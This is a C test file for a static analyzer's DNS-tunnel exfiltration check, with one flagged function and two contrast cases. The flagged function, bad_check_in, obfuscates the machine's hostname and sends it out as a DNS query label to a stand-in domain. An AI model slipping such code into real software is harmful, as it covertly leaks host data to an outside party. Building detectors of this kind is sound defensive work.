/* Which name server is asked first is a setting; who answers for the domain in the question is not.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/utsname.h>
#include <unistd.h>

struct question {
    unsigned char bytes[300];
    unsigned size;
};

static int open_resolver(void) {
    struct sockaddr_in server = {.sin_family = AF_INET, .sin_port = htons(53)};
    const char *name = getenv("METER_RESOLVER");
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    inet_pton(AF_INET, name ? name : "127.0.0.1", &server.sin_addr);
    return connect(s, (struct sockaddr *)&server, sizeof server) ? -1 : s;
}

static void part(struct question *q, const char *text) {
    unsigned size = (unsigned)strlen(text);
    q->bytes[q->size++] = (unsigned char)size;
    memcpy(q->bytes + q->size, text, size);
    q->size += size;
}

static void name(struct question *q, const char *host) {
    char copy[64];
    snprintf(copy, sizeof copy, "%s", host);
    for (char *at = strtok(copy, "."); at; at = strtok(NULL, "."))
        part(q, at);
}

static void digits(const char *text, char *to) {
    for (; *text; text++, to += 2)
        snprintf(to, 3, "%02x", (unsigned char)*text ^ 0x42);
}

int bad_check_in(void) {
    struct question q = {{0, 7, 1}, 12};
    struct utsname self;
    char label[140] = "";
    int s = open_resolver();
    uname(&self);
    digits(self.nodename, label);
    part(&q, label);
    name(&q, "in.meter-parts.example");
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/dns-tunnel]}}
    return (int)send(s, q.bytes, q.size + 5, 0);
}

/* The newest version is asked for, by the same means. */
int good_version(void) {
    struct question q = {{0, 7, 1}, 12};
    int s = open_resolver();
    part(&q, "version");
    name(&q, "in.meter-parts.example");
    return (int)send(s, q.bytes, q.size + 5, 0);
}

/* Whose name is told to the zone that the owner of the host runs. */
int good_zone(const char *zone) {
    struct question q = {{0, 7, 1}, 12};
    struct utsname self;
    int s = open_resolver();
    uname(&self);
    part(&q, self.nodename);
    name(&q, zone);
    return (int)send(s, q.bytes, q.size + 5, 0);
}
